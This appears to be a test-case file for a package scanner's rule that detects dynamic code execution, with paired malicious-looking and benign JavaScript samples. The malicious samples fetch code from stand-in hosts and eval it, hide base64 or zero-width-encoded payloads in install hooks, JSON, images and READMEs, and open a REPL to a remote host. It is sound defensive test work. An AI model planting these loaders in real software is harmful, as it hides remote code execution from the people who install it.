import { defineCases } from '../../src/rule.ts';

// The packed texts say `console.log(1)`.
export default defineCases({
  bad: [
    {
      name: 'what a request answers that fails, which its client hangs on the error',
      alone: 'block',
      code: "const axios = require('axios');\nasync function load() {\n  try { await axios.get('https://a.example/rules'); }\n  catch (error) { if (error.response) new Function.constructor('require', error.response.data.rules).bind(null, require)(); }\n}\nload();",
    },
    {
      name: 'the constructor of a function of its own, in another module',
      alone: 'block',
      manifest: { type: 'module' },
      files: {
        'index.js':
          "import { compile } from './rules.js';\nconst rules = await (await fetch('https://flags.example/rules.json')).json();\nfor (const [name, rule] of Object.entries(rules)) console.log(name, compile(rule)({ bucket: 3 }));",
        'rules.js':
          'export function compile(rule) { const Make = compile.constructor; return Make("context", `with (context) return (${rule})`); }',
      },
    },
    {
      name: 'a client for pages that loads modules anew, in a file no entry reaches',
      alone: 'pass',
      files: {
        'index.js': 'module.exports = 1',
        'browser/hmr.js':
          "const socket = new WebSocket('ws://' + location.host);\nsocket.onmessage = (event) => { for (const { js } of JSON.parse(event.data).assets) new Function('module', js)(module) };",
      },
    },
    {
      name: 'what is put into the names that code finds',
      code: "const vm = require('vm');\nconst sandbox = { text: Buffer.from('Y29uc29sZS5sb2coJ2hpIGZyb20gYSB0ZXh0Jyk=', 'base64').toString(), eval };\nvm.runInNewContext('eval(text)', sandbox)",
    },
    {
      name: 'letters in bits, told by characters without a shape in a text of the package',
      files: {
        'README.md': '# x\n',
        'index.js':
          "const md = require('fs').readFileSync(__dirname + '/README.md', 'utf8');\nconst bits = [...md.matchAll(/[\\u200b\\u200c]/g)].map(([c]) => (c === '\\u200b' ? '0' : '1')).join('');\nconst text = bits.match(/.{8}/g)?.map((b) => String.fromCharCode(parseInt(b, 2))).join('');\nif (text) Function('require', text)(require);",
      },
    },
    {
      name: 'a download that is handed to eval',
      code: "fetch('https://a.example/x').then((answer) => answer.text()).then(eval);",
    },
    {
      name: 'a packed text in a command of the install',
      manifest: {
        scripts: { postinstall: "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\" || true" },
      },
      code: '',
    },
    {
      name: 'a download in a command of the install, with quotes that are escaped',
      manifest: {
        scripts: {
          postinstall: 'npm run -s boot',
          boot: 'sh -c "node -pe \\"fetch(\'https://a.example/x\').then((r) => r.text()).then(eval)\\""',
        },
      },
      code: '',
    },
    {
      name: 'a script that stands elsewhere in the manifest',
      manifest: {
        scripts: { postinstall: '$npm_node_execpath -e "$npm_package_config_boot"' },
        config: { boot: "fetch('https://a.example/x').then((r) => r.text()).then(eval)" },
      },
      code: '',
    },
    {
      name: 'a module inside a URL, in a command of the install',
      manifest: {
        scripts: {
          install: 'node --input-type=module -e "await import(\'data:text/javascript;base64,Y29uc29sZS5sb2coMSk=\')"',
        },
      },
      code: '',
    },
    {
      name: 'a download in a binding.gyp',
      files: {
        'binding.gyp':
          '{"targets":[{"sources":["<!(node -e \'fetch(`https://a.example/x`).then((r) => r.text()).then(eval)\')"]}]}',
        'index.js': '',
      },
    },
    {
      name: 'a download in a shell script that the install runs, on several lines',
      manifest: { scripts: { postinstall: 'sh setup.sh' } },
      files: {
        'index.js': '',
        'setup.sh':
          "#!/bin/sh\nnode - <<'EOF'\nfetch('https://a.example/x')\n  .then((r) => r.text())\n  .then((text) => eval(text));\nEOF\n",
      },
    },
    {
      name: 'a function that is wrapped around the one that was given',
      code: "const wrap = require('wrap');\nconst both = (given) => wrap(given, () => atob('Y29uc29sZS5sb2coMSk='));\nconst run = both(() => '1');\neval(run());",
    },
    {
      name: 'the letters of a text, each moved by one',
      code: "const text = 'cmV0dXJuIDE7cmV0dXJuIDI7';\nfunction moved(text) { let all = ''; for (let i = 0; i < text.length; i++) all += String.fromCharCode(text.charCodeAt(i) - 1); return all }\nnew Function(moved(text))();",
    },
    {
      name: 'one of the functions that a bundler has named',
      code: "const __name = (target, value) => Object.defineProperty(target, 'name', { value });\nconst unpack = __name((text) => atob(text), 'unpack');\nconst plain = __name((text) => text.trim(), 'plain');\nexports.greeting = plain('hello');\neval(unpack('Y29uc29sZS5sb2coMSk='));",
    },
    {
      name: 'a decoder that is given a file where a text becomes code, and memory elsewhere',
      code: "const fs = require('fs'), path = require('path');\nfunction text(bytes, at) { let s = ''; while (bytes[at]) s += String.fromCharCode(bytes[at++]); return s }\nexports.name = (memory, at) => text(new Uint8Array(memory.buffer), at);\neval(text(fs.readFileSync(path.join(__dirname, 'x.wasm')), 0));",
    },
    {
      name: 'what a program on this machine says, by a socket whose address is set elsewhere',
      code: "let address, socket;\nfunction connect() { socket = new WebSocket(address); socket.onmessage = (event) => { const { code } = JSON.parse(event.data); eval(code) } }\naddress = 'ws://localhost:12300';\nconnect();",
      alone: 'pass',
    },
    {
      name: 'what a program on this machine answers',
      code: 'const port = process.env.PORT ?? 3000;\nfetch(`http://127.0.0.1:${port}/hot.js`).then((answer) => answer.text()).then((text) => eval(text));',
      alone: 'pass',
    },
    {
      name: 'what comes over one of two sockets, the other with this machine',
      code: "const near = new WebSocket('ws://localhost:1'), far = new WebSocket('wss://a.example');\nfar.onmessage = (event) => eval(event.data);",
      alone: 'block',
    },
    {
      name: 'what a bot is told, beside a socket with this machine',
      code: "const { Telegraf } = require('telegraf'), near = new WebSocket('ws://localhost:1'), bot = new Telegraf('x');\nbot.on('text', (ctx) => eval(ctx.message.text));",
      alone: 'review',
    },
    {
      name: 'an address that only begins like this machine’s',
      code: "for (const host of ['localhost.a.example', 'x']) fetch('http://' + host + '/x').then((r) => r.text()).then((t) => eval(t));\nfetch('http://localhost:80@a.example/x').then((r) => r.text()).then((t) => eval(t));",
    },
    {
      name: 'a download that several callbacks hand on',
      code: "fetch('https://a.example/x').then((answer) => answer.text()).then((text) => text.trim()).then((text) => eval(text));",
    },
    {
      name: 'a function that replaces what it was given',
      code: "const plain = (text) => { text = atob('Y29uc29sZS5sb2coMSk='); return text };\neval(plain('hello'));",
    },
    {
      name: 'code that lies in JSON',
      files: {
        'index.js': "const vm = require('vm'), texts = require('./texts.json');\nvm.runInThisContext(texts.welcome)",
        'texts.json': '{"title":"Tides","welcome":"console.log(1)"}',
      },
    },
    {
      name: 'code that lies in JSON as numbers',
      files: {
        'index.js': "const codes = require('./codes.json');\neval(String.fromCharCode(...codes))",
        'codes.json': '[99,111,110,115,111,108,101,46,108,111,103,40,49,41]',
      },
    },
    {
      name: 'code that lies in JSON with its signs escaped',
      files: {
        'index.js': "eval(require('./texts.json').welcome)",
        'texts.json': '{"welcome":"console.log\\u00281\\u0029"}',
      },
    },
    ...[
      ['as numbers, where they are spelled out', "eval(String.fromCharCode(...require('./codes.json')))"],
      ['as numbers, applied', "eval(String.fromCharCode.apply(null, require('./codes.json')))"],
      ['as numbers, one by one', "eval(require('./codes.json').map((c) => String.fromCharCode(c)).join(''))"],
      ['as bytes', "eval(new TextDecoder().decode(Uint8Array.from(require('./codes.json'))))"],
      ['in pieces', "eval(Object.values(require('./words.json')).join(''))"],
      ['in pieces that a loop joins', "let s = '';\nfor (const w of require('./words.json')) s += w;\neval(s)"],
      ['in pieces, spread', "eval([...require('./words.json')].join(''))"],
      ['under a name that is not known', "eval(require('./words.json')[process.argv[2]])"],
      ['copied', "eval(structuredClone(require('./words.json')).at(0))"],
      ['under a name that may be missing', "eval(require('./words.json')?.[0])"],
      ['behind a module that decodes it', "eval(require('./decode')())"],
      [
        'and is read and parsed',
        "const fs = require('fs');\neval(JSON.parse(fs.readFileSync(__dirname + '/words.json', 'utf8'))[0])",
      ],
      [
        'and is read later and parsed',
        "const fs = require('fs'), path = require('path');\nfs.readFile(path.join(__dirname, 'words.json'), (_, d) => eval(JSON.parse(d)[0]))",
      ],
    ].map(([how = '', code = '']) => ({
      name: `code that lies in JSON ${how}`,
      files: {
        'index.js': code,
        'decode.js': "module.exports = () => String.fromCharCode(...require('./codes.json'))",
        'words.json': '["console",".log(1)"]',
        'codes.json': '[99,111,110,115,111,108,101,46,108,111,103,40,49,41]',
      },
    })),
    {
      name: 'JSON that is not in the package yet',
      code: "eval(require('./made-at-install.json').welcome)",
    },
    { name: 'eval of base64', code: "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())" },
    {
      name: 'a function made of a decoded text',
      code: "const t = atob('Y29uc29sZS5sb2coMSk=');\nconst f = new Function(t);\nf()",
    },
    {
      name: 'an inflated script',
      code: "const z = require('zlib'), vm = require('node:vm');\nconst s = z.inflateSync(Buffer.from('eJxLzs8rzs9J1cvJT9cw1AQAHpgEgw==', 'base64')).toString();\nvm.runInThisContext(s)",
    },
    {
      name: 'indirect eval of character codes',
      code: 'const g = globalThis;\n(0, g["ev" + "al"])(String.fromCharCode(99, 111, 110, 115, 111, 108, 101))',
    },
    {
      name: 'a download that is run',
      code: "fetch('https://payload.example/x.js').then((r) => r.text()).then((t) => eval(t))",
    },
    {
      name: 'what a name server of its own tells',
      code: "const { Resolver } = require('dns').promises;\nconst r = new Resolver();\nr.setServers(['192.0.2.53']);\nr.resolveTxt('cfg.example').then((t) => new module.constructor()._compile(t.flat().join(''), 'c.js'))",
    },
    {
      name: 'a packed module that is written through a handle and started',
      code: "const fs = require('fs').promises, p = require('os').tmpdir() + '/x.js';\n(async () => { const h = await fs.open(p, 'w'); await h.writeFile(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64')); await h.close(); require('child_process').spawn('node', [p]) })()",
    },
    {
      name: 'a module compiled from hex',
      code: "const Module = require('module');\nconst m = new Module('x');\nm._compile(Buffer.from('636f6e736f6c652e6c6f67283129', 'hex').toString(), 'x.js')",
    },
    {
      name: 'an encrypted text',
      code: "const c = require('crypto');\nconst d = c.createDecipheriv('aes-256-cbc', 'k'.repeat(32), 'i'.repeat(16));\nlet out = d.update('00ff00ff00ff00ff', 'hex', 'utf8');\nout += d.final('utf8');\nFunction(out)()",
    },
    {
      name: 'a text that lies in another module',
      files: {
        'index.js': "const { icon } = require('./icon.js');\neval(atob(icon))",
        'icon.js': "exports.icon = 'Y29uc29sZS5sb2coImEgZmV3IHdvcmRzIG9mIGNvZGUiKQ=='",
      },
      manifest: { main: 'index.js' },
    },
    {
      name: 'a text that another module unpacks',
      files: {
        'index.js': "eval(require('./icon.js')())",
        'icon.js': "module.exports = () => atob('Y29uc29sZS5sb2coImEgZmV3IHdvcmRzIG9mIGNvZGUiKQ==')",
      },
    },
    {
      name: 'a text that is given to another module to unpack',
      files: {
        'index.js': "const { unpack } = require('./unpack.js');\neval(unpack('Y29uc29sZS5sb2coMSk='))",
        'unpack.js': 'exports.unpack = (text) => atob(text)',
      },
    },
    {
      name: 'a data file that is given to another module to unpack',
      files: {
        'index.js': "const { unpack } = require('./unpack.js');\neval(unpack(require('./texts.json').welcome))",
        'unpack.js': 'exports.unpack = (text) => atob(text)',
        'texts.json': '{"welcome":"Y29uc29sZS5sb2coMSk="}',
      },
    },
    {
      name: 'a text handed to a module that unpacks and runs it',
      files: {
        'index.js': "const run = require('./run.js');\nrun('Y29uc29sZS5sb2coMSk=')",
        'run.js': 'module.exports = (text) => eval(atob(text))',
      },
      manifest: { main: 'index.js' },
    },
    {
      name: 'a packed file',
      code: "const fs = require('fs');\neval(Buffer.from(fs.readFileSync(__dirname + '/x.dat', 'utf8'), 'base64').toString())",
    },
    {
      name: 'a picture that is read as the code beside it is',
      files: {
        'index.js':
          "const fs = require('fs'), vm = require('vm'), path = require('path');\nconst read = (name) => fs.readFileSync(path.join(__dirname, name), 'utf8');\nnew vm.Script(read('logo.png') + read('loader.js')).runInThisContext()",
        'loader.js': '1',
        'logo.png': 'console.log(1)',
      },
    },
    {
      name: 'a picture that holds code',
      files: {
        'index.js':
          "const fs = require('fs'), path = require('path');\nconst text = fs.readFileSync(path.join(__dirname, 'logo.png'), 'utf8');\nnew Function('require', text.split('IEND')[1])(require)",
        'logo.png': 'IENDconsole.log(1)',
      },
    },
    {
      name: 'a field of a JSON file',
      files: { 'index.js': "eval(require('./data.json').text)", 'data.json': '{"text":"console.log(1)"}' },
    },
    {
      name: 'a packed module that is written and loaded',
      code: "const fs = require('fs');\nfs.writeFileSync('/tmp/x.js', Buffer.from('Y29uc29sZS5sb2coImEgZmV3IHdvcmRzIik=', 'base64'));\nrequire('/tmp/x.js'); // eval",
    },
    {
      name: 'a packed script for another node',
      code: "const { spawn } = require('child_process');\nspawn('node', ['-e', Buffer.from('Y29uc29sZS5sb2coImEgZmV3IHdvcmRzIik=', 'base64').toString()]) // eval",
    },
    { name: 'a module inside a URL', code: "import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=')" },
    {
      name: 'a text that a timer runs',
      code: "setTimeout(atob('Y29uc29sZS5sb2coImEgZmV3IHdvcmRzIik='), 1000) // eval",
    },
    {
      name: 'the function behind every function',
      code: "[].at.constructor(atob('Y29uc29sZS5sb2coImEgZmV3IHdvcmRzIik='))()",
    },
    {
      name: 'a packed text that is given to a function of another module',
      files: {
        'index.js': "require('./lib/run').run(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())",
        'lib/run.js': "exports.run = (text) => new Function('require', text)(require)",
      },
    },
    {
      name: 'a download that is saved and loaded as a module',
      code: "import { writeFile } from 'node:fs/promises';\nimport { pathToFileURL } from 'node:url';\nimport os from 'node:os';\nconst f = os.tmpdir() + '/n.mjs';\nawait writeFile(f, await (await fetch('https://a.example/x')).text());\nawait import(pathToFileURL(f).href);",
      manifest: { type: 'module' },
    },
    {
      name: 'a download that is piped into a file and loaded',
      code: "const fs = require('fs'), os = require('os');\nconst file = `${os.homedir()}/.cache/tides/sum.node`;\nrequire('http').get('http://a.example/sum.node', (answer) => answer.pipe(fs.createWriteStream(file)).on('finish', () => process.dlopen(module, file)));",
    },
    {
      name: 'the same by a pipeline, loaded as a module',
      code: "const fs = require('fs'), os = require('os'), { pipeline } = require('stream/promises');\nconst file = os.homedir() + '/.cache/tides/sum.cjs';\n(async () => { const out = fs.createWriteStream(file); await pipeline((await fetch('https://a.example/sum')).body, out); require(file); })();",
    },
    {
      name: 'a download in a URL that is put together',
      code: "const kind = ['da', 'ta:'].join('') + ['text', 'java' + 'script'].join('/');\nfetch('https://a.example/x').then((r) => r.text()).then((text) => import(`${kind};base64,${Buffer.from(text).toString('base64')}`));",
    },
    {
      name: 'a loader inside a URL',
      code: "require('module').register('data:text/javascript;base64,ZXhwb3J0IGNvbnN0IGE9MQ==')",
    },
    {
      name: 'code in a comment of the readme',
      files: {
        'index.js':
          "const fs = require('fs');\neval(fs.readFileSync(__dirname + '/README.md', 'utf8').split('<!--')[1].split('-->')[0])",
        'README.md': '# a\n<!--console.log(1)-->',
      },
    },
    {
      name: 'downloaded, under the address of a blob',
      manifest: { type: 'module' },
      code: "const res = await fetch('https://cdn.example/p.mjs');\nconst blob = new Blob([await res.text()], { type: 'text/javascript' });\nawait import(URL.createObjectURL(blob));",
    },
    {
      name: 'downloaded, in the place of a module',
      manifest: { type: 'module' },
      code: "import { registerHooks } from 'node:module';\nconst source = await (await fetch('https://cdn.example/h.js')).text();\nregisterHooks({ load: (url, context, next) => (url.endsWith('?x') ? { format: 'module', source, shortCircuit: true } : next(url, context)) });",
    },
    {
      name: 'downloaded, and told the debugger',
      manifest: { type: 'module' },
      code: "import { Session } from 'node:inspector/promises';\nconst session = new Session();\nsession.connect();\nawait session.post('Runtime.evaluate', { expression: await (await fetch('https://cdn.example/x')).text() });",
    },
    {
      name: 'a console for somebody elsewhere',
      code: "const net = require('net'), repl = require('repl');\nconst socket = net.connect(4444, 'x.example');\nrepl.start({ input: socket, output: socket })",
    },
    {
      name: 'what a program of WebAssembly asks for, when it is called',
      alone: 'pass',
      manifest: { type: 'module' },
      code: 'let wasm, cached = null; const decoder = new TextDecoder();\nfunction memory() { if (cached === null) cached = new Uint8Array(wasm.memory.buffer); return cached }\nconst text = (at, size) => decoder.decode(memory().subarray(at, at + size));\nasync function made(module, imports) { return { instance: await WebAssembly.instantiate(module, imports), module } }\nexport async function load(url, imports) { const { instance, module } = await made(await fetch(url), imports); wasm = instance.exports; load.module = module; return wasm }\nexport const imports = { make: (at, size) => new Function(text(at, size)) };',
    },
    {
      name: 'what a program of WebAssembly holds, at once',
      manifest: { type: 'module' },
      code: "let wasm, cached = null; const decoder = new TextDecoder();\nfunction memory() { if (cached === null) cached = new Uint8Array(wasm.memory.buffer); return cached }\nconst text = (at, size) => decoder.decode(memory().subarray(at, at + size));\nasync function made(module, imports) { return { instance: await WebAssembly.instantiate(module, imports), module } }\nexport async function load(url, imports) { const { instance, module } = await made(await fetch(url), imports); wasm = instance.exports; load.module = module; return wasm }\nawait load('https://x.example/x.wasm', {});\nnew Function(text(0, 80))();",
    },
    {
      name: 'a text that is written out in code that runs it',
      code: "fetch('https://x.example/a').then((r) => r.text()).then((t) => new Function('return eval(' + JSON.stringify(t) + ')')())",
    },
    {
      name: 'a text that is written out, without its quotes',
      code: "fetch('https://x.example/a').then((r) => r.text()).then((t) => new Function(JSON.stringify(t).slice(1, -1))())",
    },
    {
      name: 'what the answer to a request holds that fails',
      code: "const axios = require('axios');\nlet plural = (n) => n;\nasync function load() { try { await axios.get('https://locale.tides.example/rules') } catch (err) { const rules = err.response && err.response.data && err.response.data.rules; if (rules) plural = new Function.constructor('require', 'n', rules).bind(null, require) } plural(0) }\nload();",
    },
    {
      name: 'the same of a promise',
      code: "const axios = require('axios');\naxios.get('https://locale.tides.example/rules').catch((error) => eval(error.response.data));",
    },
  ],
  ok: [
    {
      name: 'what a failed request says, shown, beside a template that becomes code',
      code: "const axios = require('axios');\nconst plural = new Function('n', 'return n === 1');\naxios.create();\nasync function load() {\n  try { await axios.get('https://a.example/rules'); }\n  catch (error) { console.error(error.response?.data ?? error.message, plural(1)); }\n}\nload();",
    },
    {
      name: 'the constructor of a function, asked whether another one is of the same kind',
      manifest: { type: 'module' },
      files: {
        'index.js':
          "import { compile } from './rules.js';\nconst rules = await (await fetch('https://flags.example/rules.json')).json();\nfor (const [name, rule] of Object.entries(rules)) console.log(name, compile(rule)({ bucket: 3 }));",
        'rules.js':
          'async function wait() {}\nconst AsyncFunction = wait.constructor;\nexport function compile(rule) { if (rule instanceof AsyncFunction) throw new TypeError(); return (context) => context[rule.name] === rule.value; }',
      },
    },
    {
      name: 'a download that is piped into a file, beside one that is loaded',
      code: "const fs = require('fs'), os = require('os');\nconst file = os.homedir() + '/.cache/tides/tides.csv';\nconst own = os.homedir() + '/.config/tides.cjs';\nrequire('https').get('https://a.example/tides.csv', (answer) => answer.pipe(fs.createWriteStream(file)).on('finish', () => require(own)));",
    },
    {
      name: 'the name of a module that is put together from what was downloaded',
      code: "const kind = ['./lo', 'cales/'].join('');\nfetch('https://a.example/x').then((r) => r.text()).then((text) => import(`${kind}${text.slice(0, 2)}.js`));",
    },
    {
      name: 'the names of columns in a reader of rows that is made for them',
      code: "const reader = (columns) => new Function('d', 'return {' + columns.map((name, i) => JSON.stringify(name) + ': d[' + i + '] || \"\"').join(',') + '}');\nexports.rows = async (url) => { const text = await (await fetch(url)).text(); const lines = text.split('\\n'); return lines.map((line) => reader(lines[0].split(','))(line.split(','))) }",
    },
    {
      name: 'an archive in the package, of which a program takes the files',
      code: "const fs = require('fs'), cp = require('child_process'), zlib = require('zlib');\nexports.scaffold = (dir) => {\n  const file = dir + '/template.tar';\n  fs.writeFileSync(file, zlib.inflateSync(Buffer.from('eJzT0yMAAGTvBe8AAAD1BgABeJxLyy/KzU0EAAiQAk0', 'base64')));\n  cp.execFileSync('tar', ['-xf', file, '-C', dir]);\n};",
    },
    {
      name: 'a reader of files that is asked for data, and by others for code',
      files: {
        'index.js':
          "const fs = require('fs'); const b = {};\nb.read = (name, raw) => { const d = fs.readFileSync(name); return raw ? d : d.toString(); };\nb.bytes = (name) => b.read(name, true);\nb.load = (name) => { eval.call(null, b.read(name)); };\nexports.memory = b.bytes(__dirname + '/memory.dat'); exports.b = b;",
        'memory.dat': 'abc',
      },
    },
    {
      name: 'a loader of a language of its own',
      manifest: { type: 'module' },
      code: "import { registerHooks } from 'node:module';\nimport { readFileSync } from 'node:fs';\nimport { transform } from './transform.js';\nregisterHooks({ load: (url, context, next) => (url.endsWith('.ext') ? { format: 'module', source: transform(readFileSync(new URL(url), 'utf8')), shortCircuit: true } : next(url, context)) });",
    },
    {
      name: 'a profile of the engine',
      manifest: { type: 'module' },
      code: "import { Session } from 'node:inspector/promises';\nconst session = new Session();\nsession.connect();\nawait session.post('Profiler.enable');\nawait session.post('Runtime.evaluate', { expression: 'process.memoryUsage()' });",
    },
    {
      name: 'a picture that is shown',
      code: "fetch('https://cdn.example/logo.png').then((r) => r.blob()).then((blob) => { document.querySelector('img').src = URL.createObjectURL(blob); });",
    },
    {
      name: 'handlers of a page, run in its window, which knows the version of the package',
      files: {
        'index.js':
          "const { createWindow } = require('./window');\nconst { version } = require('./package.json');\nexports.open = (html) => createWindow({ html, agent: `Mozilla/5.0 acme/${version}` });",
        'window.js':
          "const vm = require('vm');\nexports.createWindow = (options) => {\n  const window = vm.createContext({});\n  window.agent = options.agent;\n  window.setTimeout = (handler) => typeof handler === 'string' ? vm.runInContext(handler, window, { filename: options.url }) : handler();\n  return window;\n};",
      },
    },
    {
      name: 'small commands of an install',
      manifest: {
        scripts: {
          preinstall: 'node -e "process.exit(0)"',
          install: 'node -e "require(\'fs\').chmodSync(\'bin.js\', 0o755)" && node -p "process.version"',
          postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}" || node -e "console.log(\'thank you\')"',
        },
      },
      files: { 'index.js': '', 'bin.js': '', 'postinstall.js': "console.log('thank you')" },
    },
    {
      name: 'answers that are given to a function of that name',
      code: "import { eval as evaluate } from './calculator.js';\nfetch('https://a.example/x').then((r) => r.text()).then(evaluate);",
    },
    {
      name: 'the argument of a file that the install runs',
      manifest: { scripts: { postinstall: 'node setup.js -e "eval(atob(\'Y29uc29sZS5sb2coMSk=\'))"' } },
      files: { 'index.js': '', 'setup.js': '' },
    },
    {
      name: 'the letters of a text, one by one',
      code: "const text = 'cmV0dXJuIDE7cmV0dXJuIDI7';\nfunction first(text) { return String.fromCodePoint(text.codePointAt(0)) }\nexports.run = (name) => new Function('return ' + first(text) + name)();",
    },
    {
      name: 'another one of the functions that a bundler has named',
      code: "const __name = (target, value) => Object.defineProperty(target, 'name', { value });\nconst unpack = __name((text) => atob(text), 'unpack');\nconst plain = __name((text) => text.trim(), 'plain');\nexports.greeting = unpack('Y29uc29sZS5sb2coMSk=');\nexports.run = (text) => eval(plain(text));",
    },
    {
      name: 'a decoder that is given memory where a text becomes code, and a file elsewhere',
      code: "const fs = require('fs'), path = require('path');\nfunction text(bytes, at) { let s = ''; while (bytes[at]) s += String.fromCharCode(bytes[at++]); return s }\nexports.name = text(fs.readFileSync(path.join(__dirname, 'x.wasm')), 0);\nexports.run = (memory, at) => eval(text(new Uint8Array(memory.buffer), at));",
    },
    {
      name: 'a script of the user, once somebody has answered',
      code: "const fs = require('fs');\nfetch('https://a.example/started').then(() => fs.readFileSync(process.argv[2], 'utf8')).then((text) => eval(text));",
    },
    {
      name: 'a cache of compiled code in a folder that is named for a version',
      files: {
        'index.js':
          "const fs = require('fs'), vm = require('vm'), path = require('path');\nconst cachedData = fs.readFileSync(path.join(__dirname, process.env.ENGINE || '3.8.0'));\nexports.run = (text) => new vm.Script(text, { cachedData }).runInThisContext()",
      },
    },
    {
      name: 'what a loader has compiled before, in a folder of its own making',
      files: {
        'index.js':
          "const fs = require('fs'), vm = require('vm'), path = require('path');\nfunction read(name) { try { return fs.readFileSync(name) } catch { return null } }\nconst cachedData = read(path.join(__dirname, 'node_modules/.cache/x', '.data.blob'));\nnew vm.Script('(function () {' + read(path.join(__dirname, 'esm', 'loader.js')) + '})', { cachedData }).runInThisContext()",
        'esm/loader.js': '1',
      },
    },
    {
      name: 'names of globals out of JSON, looked up in a sandbox',
      files: {
        'index.js':
          "const vm = require('vm'), globals = require('./globals.json');\nexports.install = (window) => { for (const name of Object.keys(globals)) window[name] = vm.runInContext(name, window) }",
        'globals.json': '{"Array":{"writable":true},"Object":{"writable":true},"globalThis":{"writable":true}}',
      },
    },
    ...[
      ['taken as it is', "vm.runInNewContext(Object.values(require('./names.json')).join())"],
      ['read and parsed', "vm.runInNewContext(JSON.parse(fs.readFileSync(__dirname + '/names.json'))[0])"],
      [
        'that only say what to leave out',
        "const skip = JSON.parse(fs.readFileSync('./notes.json'));\nexports.run = (code) => skip.includes(code) || vm.runInNewContext(code)",
      ],
      [
        'of the user’s own folder',
        "exports.run = () => vm.runInNewContext(JSON.parse(fs.readFileSync('./settings.json')).filter)",
      ],
      ['whose length is asked', "vm.runInNewContext(`size = ${require('./notes.json').length}`)"],
    ].map(([how = '', code = '']) => ({
      name: `names out of JSON ${how}`,
      files: {
        'index.js': `const fs = require('fs'), vm = require('vm');\n${code}`,
        'names.json': '["Array","Object","globalThis"]',
        'notes.json': '["may (or may not) be code; = 1"]',
      },
    })),
    {
      name: 'a template that is compiled',
      code: "const fs = require('fs');\nexports.page = new Function('data', compile(fs.readFileSync(__dirname + '/page.ejs', 'utf8')))",
    },
    {
      name: 'an icon that is written and opened',
      code: "const fs = require('fs');\nfs.writeFileSync('/tmp/icon.png', Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAE1', 'base64'));\nexports.icon = '/tmp/icon.png'; // eval",
    },

    {
      name: 'a worker that runs the `data:` URL it is given',
      code: "const vm = require('vm');\nconst { workerData, isMainThread } = require('worker_threads');\nfunction run(url) {\n  const [, type, data] = /^data:([^,]*),(.*)$/.exec(decodeURIComponent(url)) || [];\n  return vm.runInThisContext(type.endsWith('base64') ? Buffer.from(data, 'base64').toString() : data);\n}\nif (!isMainThread) run(workerData.url);",
    },
    {
      name: 'a template that another module unpacks for whoever hands it over',
      files: {
        'index.js':
          "const { unpack } = require('./unpack.js');\nexports.compile = (text) => new Function('d', unpack(text))",
        'unpack.js': 'exports.unpack = (text) => atob(text)',
      },
    },
    {
      name: 'a template of its user that another module unpacks by the name of its encoding',
      files: {
        'index.js':
          "const { unpack } = require('./unpack.js');\nexports.compile = (text) => new Function('d', unpack(text, 'base64', 'utf8'))",
        'unpack.js':
          'exports.unpack = (text, from, to) => Buffer.from(text, from === "x" ? "hex" : "base64").toString(to)',
      },
    },
    {
      name: 'a compiler whose lexer knows escapes',
      code: 'const lex = (code) => code.replace(/x([0-9a-f]{4})/g, (_, hex) => String.fromCharCode(parseInt(hex, 16)));\nexports.run = (code) => Function(lex(code))()',
    },
    { name: 'the old way to the global object', code: "module.exports = Function('return this')()" },
    {
      name: 'a template compiled to a function',
      code: "exports.compile = (t) => new Function('data', 'return `' + t + '`')",
    },
    { name: 'data in base64 that stays data', code: "exports.icon = Buffer.from('iVBORw0KGgo=', 'base64')" },
    {
      name: 'base64 in one place, a lazy import in another',
      code: "const logo = atob('aGVsbG8=');\nexports.load = new Function('s', 'return import(s)');\nexports.logo = logo",
    },
    {
      name: 'WebAssembly that a library carries',
      code: "const bytes = Buffer.from('AGFzbQEAAAA=', 'base64');\nmodule.exports = WebAssembly.compile(bytes)",
    },
    {
      name: 'a downloaded document that is parsed',
      code: "exports.load = () => fetch('https://api.example/x.json').then((r) => r.json())",
    },
    {
      name: 'the answer to a request that fails, in words, and code of a template',
      code: "const axios = require('axios');\nexports.get = async (url) => { try { return (await axios.get(url)).data } catch (err) { throw new Error(`${err.response?.status}: ${err.response?.data?.message}`) } };\nexports.compile = (name) => { try { return new Function('o', `return o[${JSON.stringify(name)}]`) } catch (err) { console.error(err.response) } };\nexports.kind = (value) => value.constructor === Object || Object.constructor.name",
    },
    {
      name: 'what an error of its own holds, by a name that answers go by',
      code: "const { render } = require('./template');\nexports.run = (text) => { try { return render(text) } catch (failed) { return new Function('o', failed.response) } };",
    },
  ],
});
